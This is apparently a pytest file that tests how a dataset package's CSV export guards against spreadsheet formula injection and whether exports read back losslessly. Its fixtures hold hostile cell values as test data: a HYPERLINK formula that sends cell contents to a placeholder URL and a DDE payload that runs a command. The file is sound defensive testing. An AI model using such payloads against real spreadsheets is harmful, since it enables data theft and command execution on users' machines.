"""No CSV cell is a spreadsheet formula, and every value reads back exactly.

The policy (:mod:`pakru.export.csv_`): a text cell beginning with ``=``,
``+``, ``-``, ``@``, a tab, a carriage return or ``'`` gets one ``'`` in
front; numbers, dates and booleans are written as they are; the typed
exports (JSON, JSON Lines, SQLite, Parquet) keep the value unchanged.
"""

import datetime as dt
import json
import sqlite3
from pathlib import Path

import pytest

from pakru.dataset import Dataset
from pakru.export import export, read, read_csv
from pakru.export import tables as export_tables
from pakru.export.csv_ import (
    FORMULA_STARTS,
    cell_value,
    parse,
    protect,
    unprotect,
    write_table,
)
from pakru.export.datapackage import DESCRIPTION, FORMULA_NOTE
from pakru.export.model import Column, Table

HYPERLINK = '=HYPERLINK("http://x"&A1,"click")'
TITLES = {
    "cgss-12": HYPERLINK,
    "jwg-ct-07": "+1 talks",
    "jwg-ct-next": "-planned",
    "fm-talks-moscow": "@SUM(A1:A9)",
}
NAMES = {"sergey-ryabkov": "\tRyabkov", "khawaja-asif": "\rAsif", "tasnim-aslam": "'Tasnim"}
ALIASES = ("=cmd|' /C calc'!A0", "plain")


@pytest.fixture(scope="module")
def hostile(ds: Dataset) -> Dataset:
    """The fixture dataset with titles, names and aliases a spreadsheet would evaluate."""
    records = []
    for record in ds.records:
        update: dict[str, object] = {}
        if record.id in TITLES:
            update = {"title": TITLES[record.id]}
        if record.id in NAMES:
            update = {"name": NAMES[record.id], "aliases": ALIASES}
        records.append(record.model_copy(update=update))
    return Dataset(records, ds.texts, version=ds.version, withdrawn=ds.withdrawn.values())


@pytest.fixture(scope="module")
def out(hostile: Dataset, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    export(hostile, "all", folder)
    return folder


def _cells(path: Path, column: str) -> dict[str, str | None]:
    """id → the raw text of one column's cell, as a spreadsheet receives it."""
    header, *rows = parse(path.read_bytes().decode("utf-8"))  # a CR in a cell stays a CR
    at = header.index(column)
    return {str(row[0]): row[at] for row in rows}


@pytest.mark.parametrize("fmt", ["csv", "datapackage"])
def test_no_text_cell_starts_a_formula(fmt: str, out: Path) -> None:
    titles = _cells(out / fmt / "meetings.csv", "title")
    assert titles["cgss-12"] == "'" + HYPERLINK
    for record_id, title in TITLES.items():
        assert titles[record_id] == "'" + title
    names = _cells(out / fmt / "people.csv", "name")
    aliases = _cells(out / fmt / "people.csv", "aliases")
    for record_id, name in NAMES.items():
        assert names[record_id] == "'" + name  # a leading quote of its own is doubled
        assert aliases[record_id] == "'" + ";".join(ALIASES)  # a list cell is one cell
    for path in (out / fmt).glob("*.csv"):
        for row in parse(path.read_bytes().decode("utf-8")):
            for cell in row:
                assert cell is None or not cell.startswith(FORMULA_STARTS), (path.name, cell)


def test_numbers_dates_and_booleans_are_written_as_they_are(tmp_path: Path) -> None:
    table = Table(
        "t",
        "",
        (
            Column("id", "string", ""),
            Column("score", "number", ""),
            Column("count", "integer", ""),
            Column("day", "date", ""),
            Column("flag", "boolean", ""),
            Column("numbers", "list", "", item="integer"),
            Column("words", "list", ""),
        ),
        ("id",),
        (),
        (
            {
                "id": "-x",
                "score": -1.5,
                "count": -3,
                "day": dt.date(2018, 3, 2),
                "flag": False,
                "numbers": (-1, 2),
                "words": ("+a", "b"),
            },
        ),
    )
    path = write_table(table, tmp_path / "t.csv")
    assert path.read_text(encoding="utf-8").splitlines()[1] == (
        '"\'-x","-1.5","-3","2018-03-02","false","-1;2","\'+a;b"'
    )
    _, cells = parse(path.read_text(encoding="utf-8"))
    values = {
        c.name: cell_value(c, cell or "") for c, cell in zip(table.columns, cells, strict=True)
    }
    assert values == table.rows[0]


@pytest.mark.parametrize("fmt", ["csv", "datapackage", "json", "jsonl", "sqlite", "parquet"])
def test_every_format_reads_back_the_exact_values(fmt: str, hostile: Dataset, out: Path) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    tables = export_tables(hostile)
    rows, _ = read(fmt, out / fmt, tables)
    for name, table in tables.items():
        assert rows[name] == list(table.rows), name
    titles = {r["id"]: r["title"] for r in rows["meetings"]}
    assert titles["cgss-12"] == HYPERLINK


def test_read_csv_gives_the_original_values(out: Path) -> None:
    meetings = read_csv(out / "csv" / "meetings.csv").set_index("id")
    for record_id, title in TITLES.items():
        assert meetings.loc[record_id, "title"] == title
    people = read_csv(out / "csv" / "people.csv").set_index("id")
    for record_id, name in NAMES.items():
        assert people.loc[record_id, "name"] == name
        assert list(people.loc[record_id, "aliases"]) == list(ALIASES)
    meta = read_csv(out / "csv" / "meta.csv")  # a table read_csv does not know: text columns
    assert dict(zip(meta["key"], meta["value"], strict=True))["name"] == "pakru"


def test_typed_exports_keep_the_raw_value(out: Path) -> None:
    meetings = json.loads((out / "json" / "meetings.json").read_text(encoding="utf-8"))
    assert {m["id"]: m["title"] for m in meetings}["cgss-12"] == HYPERLINK
    db = sqlite3.connect(out / "sqlite" / "pakru.sqlite")
    try:
        (title,) = db.execute("SELECT title FROM meetings WHERE id = 'cgss-12'").fetchone()
    finally:
        db.close()
    assert title == HYPERLINK


def test_the_data_package_states_the_policy(out: Path) -> None:
    document = json.loads((out / "datapackage" / "datapackage.json").read_text("utf-8"))
    assert DESCRIPTION in document["description"]
    assert DESCRIPTION.startswith(FORMULA_NOTE)
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(out / "datapackage" / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.mark.parametrize(
    "text", ["=1+1", "+", "-", "@x", "\tx", "\rx", "'", "''x", "'=x", "x", "", "x=1", " =x"]
)
def test_protect_is_undone_exactly(text: str) -> None:
    written = protect(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unprotect(written) == text
    assert written == (text if text[:1] not in {*FORMULA_STARTS, "'"} else "'" + text)
